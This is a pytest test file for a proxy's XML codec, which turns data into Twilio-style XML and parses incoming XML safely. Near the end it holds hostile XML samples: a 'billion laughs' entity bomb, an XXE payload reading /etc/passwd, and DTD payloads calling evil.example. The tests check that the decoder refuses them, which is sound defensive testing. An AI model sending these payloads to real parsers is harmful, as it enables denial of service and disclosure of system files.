"""Twilio-style XML out (what ``.xml`` clients parse) and hostile-safe XML in."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from typing import Any

import defusedxml.ElementTree as SafeET
import pytest
from hypothesis import given
from hypothesis import strategies as st
from twilio.base.page import Page

from proxy import codecs

DECLARATION = b"<?xml version='1.0' encoding='utf-8'?>"

PAGE: dict[str, Any] = {
    "first_page_uri": "/2010-04-01/Accounts/AC1/Messages.json?PageSize=2&Page=0",
    "end": 1,
    "previous_page_uri": None,
    "uri": "/2010-04-01/Accounts/AC1/Messages.json?PageSize=2&Page=0",
    "page_size": 2,
    "start": 0,
    "next_page_uri": "/2010-04-01/Accounts/AC1/Messages.json?PageSize=2&Page=1&PageToken=PAx",
    "page": 0,
    "messages": [
        {
            "sid": "SM1",
            "body": "Hi & <bye>",
            "num_segments": "1",
            "price": None,
            "subresource_uris": {"media": "/2010-04-01/Accounts/AC1/Messages/SM1/Media.json"},
        },
        {"sid": "SM2", "body": "ü ☎", "num_segments": "2", "price": "-0.00750"},
    ],
}


def parse(body: bytes) -> ET.Element:
    """Every document the proxy writes must parse with the same safe parser clients might use."""
    assert body.startswith(DECLARATION + b"\n<TwilioResponse")
    root: ET.Element = SafeET.fromstring(body)
    assert root.tag == "TwilioResponse"
    return root


def fields(elem: ET.Element) -> list[tuple[str, str | None]]:
    return [(child.tag, child.text) for child in elem]


def test_envelope_keys_are_the_twilio_sdks() -> None:
    # The SDK decides what a page is from these keys; the XML and CSV must decide alike.
    assert set(codecs.xml_codec.ENVELOPE_KEYS) == Page.META_KEYS


def test_messages_page_is_one_plural_element_with_envelope_attributes() -> None:
    root = parse(codecs.encode(PAGE, "xml", resource="Message"))
    (messages,) = list(root)
    assert messages.tag == "Messages"
    assert messages.attrib == {
        "firstpageuri": PAGE["first_page_uri"],
        "end": "1",
        "previouspageuri": "",
        "uri": PAGE["uri"],
        "pagesize": "2",
        "start": "0",
        "nextpageuri": PAGE["next_page_uri"],
        "page": "0",
    }
    first, second = list(messages)
    assert first.tag == second.tag == "Message"
    assert fields(first)[:4] == [
        ("Sid", "SM1"),
        ("Body", "Hi & <bye>"),
        ("NumSegments", "1"),
        ("Price", None),
    ]
    assert len(first.find("Price")) == 0
    media = first.findtext("SubresourceUris/Media")
    assert media == "/2010-04-01/Accounts/AC1/Messages/SM1/Media.json"
    assert second.findtext("Body") == "ü ☎"


def test_every_envelope_attribute_is_named_without_underscores() -> None:
    page = {key: 1 for key in Page.META_KEYS} | {"calls": []}
    (calls,) = list(parse(codecs.encode(page, "xml")))
    assert calls.tag == "Calls"
    assert set(calls.attrib) == {
        "end",
        "firstpageuri",
        "nextpageuri",
        "lastpageuri",
        "page",
        "pagesize",
        "previouspageuri",
        "total",
        "numpages",
        "start",
        "uri",
    }
    assert list(calls) == []


def test_media_list_page_items_are_media() -> None:
    page = {"page": 0, "media_list": [{"sid": "ME1"}]}
    (media_list,) = list(parse(codecs.encode(page, "xml")))
    assert media_list.tag == "MediaList"
    assert [item.tag for item in media_list] == ["Media"]


def test_empty_page_and_empty_records_stay_well_formed() -> None:
    body = codecs.encode({"page": 0, "messages": []}, "xml")
    assert body == DECLARATION + b'\n<TwilioResponse><Messages page="0" /></TwilioResponse>'
    # Items named like their container ("Media") must not confuse where the container ends.
    (media,) = list(parse(codecs.encode({"page": 0, "media": [{}, None]}, "xml")))
    assert media.tag == "Media"
    assert [(item.tag, len(item)) for item in media] == [("Media", 0), ("Media", 0)]


@pytest.mark.parametrize(
    ("data", "children"),
    [
        ({"messages": [{"sid": "SM1"}]}, ["Messages"]),  # no envelope key
        ({"page": 0, "messages": [], "calls": []}, ["Page", "Messages", "Calls"]),  # two lists
        ({"page": 0, "message": {"sid": "SM1"}}, ["Page", "Message"]),  # the other key is no list
    ],
)
def test_what_is_not_a_page_is_a_resource(data: dict[str, Any], children: list[str]) -> None:
    root = parse(codecs.encode(data, "xml", resource="Thing"))
    (thing,) = list(root)
    assert thing.tag == "Thing"
    assert thing.attrib == {}
    assert [child.tag for child in thing] == children


def test_single_resource_is_wrapped_in_its_element() -> None:
    message = {"sid": "SM1", "api_version": "2010-04-01", "date_created": "Thu, 01 May 2025"}
    root = parse(codecs.encode(message, "xml", resource="Message"))
    assert [child.tag for child in root] == ["Message"]
    assert fields(root[0]) == [
        ("Sid", "SM1"),
        ("ApiVersion", "2010-04-01"),
        ("DateCreated", "Thu, 01 May 2025"),
    ]


def test_without_a_resource_name_fields_sit_under_the_root() -> None:
    root = parse(codecs.encode({"sid": "AC1", "status": "active"}, "xml"))
    assert fields(root) == [("Sid", "AC1"), ("Status", "active")]


def test_field_value_rules() -> None:
    data = {
        "ok": True,
        "off": False,
        "count": 3,
        "price": -0.0075,
        "price_unit": None,
        "empty": "",
        "flags": ["a", "b"],
        "media_urls": ["https://e.x/a.png"],
        "no_items": [],
        "entries": [{"sid": "E1"}, {"sid": "E2"}],
        "subresource_uris": {"media": "/m", "feedback": {"uri": "/f"}},
    }
    message = parse(codecs.encode(data, "xml", resource="Message"))[0]
    assert message.findtext("Ok") == "true"
    assert message.findtext("Off") == "false"
    assert message.findtext("Count") == "3"
    assert message.findtext("Price") == "-0.0075"
    assert message.find("PriceUnit") is not None
    assert message.findtext("PriceUnit") == ""
    assert message.findtext("Empty") == ""
    assert [f.text for f in message.findall("Flags/Flag")] == ["a", "b"]
    assert [f.tag for f in message.find("Flags")] == ["Flag", "Flag"]
    assert message.findtext("MediaUrls/MediaUrl") == "https://e.x/a.png"
    assert list(message.find("NoItems")) == []
    assert [e.findtext("Sid") for e in message.findall("Entries/Entry")] == ["E1", "E2"]
    assert message.findtext("SubresourceUris/Feedback/Uri") == "/f"


def test_none_is_an_empty_element_in_the_bytes() -> None:
    body = codecs.encode({"price": None}, "xml", resource="Message")
    assert body == DECLARATION + b"\n<TwilioResponse><Message><Price /></Message></TwilioResponse>"


def test_error_is_a_rest_exception() -> None:
    error = {
        "code": 20404,
        "message": "The requested resource /x was not found",
        "more_info": "https://www.twilio.com/docs/errors/20404",
        "status": 404,
    }
    body = codecs.encode(error, "xml", resource="Message", error=True)
    assert body == DECLARATION + (
        b"\n<TwilioResponse><RestException><Code>20404</Code>"
        b"<Message>The requested resource /x was not found</Message>"
        b"<MoreInfo>https://www.twilio.com/docs/errors/20404</MoreInfo>"
        b"<Status>404</Status></RestException></TwilioResponse>"
    )
    parse(body)


def test_error_that_looks_like_a_page_is_still_an_error() -> None:
    root = parse(codecs.encode({"code": 1, "uri": "/x", "details": []}, "xml", error=True))
    assert [child.tag for child in root] == ["RestException"]


def test_top_level_list_items_are_named_by_the_resource() -> None:
    assert [c.tag for c in parse(codecs.encode([{"sid": "a"}, {"sid": "b"}], "xml"))] == [
        "Item",
        "Item",
    ]
    root = parse(codecs.encode([{"sid": "a"}], "xml", resource="Call"))
    assert root[0].tag == "Call" and root[0].findtext("Sid") == "a"


def test_no_data_is_an_empty_response() -> None:
    root = parse(codecs.encode(None, "xml", resource="Message"))
    assert list(root) == [] and root.text is None


def test_text_is_escaped_and_comes_back_exactly() -> None:
    body = "a < b && c > d \"quoted\" 'single' ]]> <![CDATA[x]]> \r\n\ttab ü ☎ 🎉"
    data = {"body": body}
    assert parse(codecs.encode(data, "xml", resource="Message"))[0].findtext("Body") == body
    page = {"uri": body, "messages": []}
    assert parse(codecs.encode(page, "xml"))[0].get("uri") == body


def test_control_characters_become_replacement_characters() -> None:
    data = {"body": "a\x00b\x07c\x1bd\ufffee\ud800f"}
    message = parse(codecs.encode(data, "xml", resource="Message"))[0]
    assert message.findtext("Body") == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf"


@pytest.mark.parametrize(
    ("key", "element"),
    [
        ("DateSent>", "DateSent_"),
        ("1st_try", "_1stTry"),
        ("a b", "a_b"),
        ("ns:tag", "ns_tag"),
        ("", "_"),
        ("x" + "\u00e9", "x_"),
    ],
)
def test_keys_that_are_not_xml_names_are_made_valid(key: str, element: str) -> None:
    root = parse(codecs.encode({key: "v"}, "xml", resource="Thing"))
    assert fields(root[0]) == [(element, "v")]


def test_a_bad_resource_name_is_made_valid_too() -> None:
    assert parse(codecs.encode({"sid": "x"}, "xml", resource="My Thing"))[0].tag == "My_Thing"


def test_deep_nesting_encodes_without_recursion_errors() -> None:
    data: Any = "leaf"
    for _ in range(3000):
        data = {"inner": data}
    body = codecs.encode(data, "xml", resource="Thing")
    assert body.count(b"<Inner>") == 3000
    assert b"<Inner>leaf</Inner>" in body


JSON_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(),
)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda inner: st.one_of(st.lists(inner), st.dictionaries(st.text(), inner)),
    max_leaves=30,
)


@given(
    data=JSON_VALUES,
    resource=st.one_of(st.none(), st.sampled_from(["Message", "Call"])),
    error=st.booleans(),
)
def test_any_data_gives_well_formed_xml(data: Any, resource: str | None, error: bool) -> None:
    parse(codecs.encode(data, "xml", resource=resource, error=error))


@given(records=st.lists(st.dictionaries(st.text(), JSON_VALUES), max_size=4), uri=st.text())
def test_any_page_gives_well_formed_xml(records: list[dict[str, Any]], uri: str) -> None:
    root = parse(codecs.encode({"uri": uri, "page": 0, "messages": records}, "xml"))
    assert len(root[0]) == len(records)


# Decoding


def test_decode_gives_the_root_childrens_fields() -> None:
    raw = (
        b"<?xml version='1.0'?><Request>"
        b"<To>+15558675310</To><Body>  Hi  </Body><Empty/><Blank></Blank>"
        b"<MediaUrl>a</MediaUrl><MediaUrl>b</MediaUrl><MediaUrl>c</MediaUrl>"
        b"<Nested><Uri>/m</Uri></Nested>"
        b"</Request>"
    )
    assert codecs.decode_xml(raw) == {
        "To": "+15558675310",
        "Body": "  Hi  ",
        "Empty": None,
        "Blank": None,
        "MediaUrl": ["a", "b", "c"],
        "Nested": {"Uri": "/m"},
    }


def test_decode_ignores_attributes_and_namespaces() -> None:
    raw = b'<r xmlns="urn:x" page="1"><To kind="e164">+1</To></r>'
    assert codecs.decode_xml(raw) == {"To": "+1"}


def test_decode_root_without_children_is_empty() -> None:
    assert codecs.decode_xml(b"<r>text</r>") == {}


def test_what_the_encoder_writes_decodes_back() -> None:
    body = codecs.encode({"sid": "SM1", "flags": ["a", "b"]}, "xml", resource="Message")
    assert codecs.decode_xml(body) == {"Message": {"Sid": "SM1", "Flags": {"Flag": ["a", "b"]}}}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz><Body>&lol4;</Body></lolz>"""
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<r><Body>&xxe;</Body></r>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>'
PLAIN_DTD = b"<!DOCTYPE r><r><Body>x</Body></r>"


@pytest.mark.parametrize(
    "raw", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, PLAIN_DTD]
)
def test_dtds_and_entities_are_refused(raw: bytes) -> None:
    with pytest.raises(codecs.DecodeError, match=r"^XML with DTDs or entities is refused$"):
        codecs.decode_xml(raw)


@pytest.mark.parametrize(
    "raw",
    [
        b"<a><b></a>",
        b"",
        b"not xml",
        b"<a>&undefined;</a>",
        b"<a>\xff</a>",
        b"<?xml version='1.0' encoding='no-such-encoding'?><a/>",
        b"<a/><b/>",
    ],
)
def test_malformed_xml_is_a_decode_error(raw: bytes) -> None:
    with pytest.raises(codecs.DecodeError, match=r"^body is not well-formed XML$"):
        codecs.decode_xml(raw)


def nested(levels: int) -> bytes:
    """A document whose deepest element is at ``levels`` (the root being level 1)."""
    return b"<a>" * levels + b"x" + b"</a>" * levels


def test_nesting_is_limited() -> None:
    assert codecs.decode_xml(nested(5), max_depth=5) == {"a": {"a": {"a": {"a": "x"}}}}
    with pytest.raises(codecs.DecodeError, match="nested more than 5 levels"):
        codecs.decode_xml(nested(6), max_depth=5)
    with pytest.raises(codecs.DecodeError, match="nested more than 64 levels"):
        codecs.decode_xml(nested(100_000))
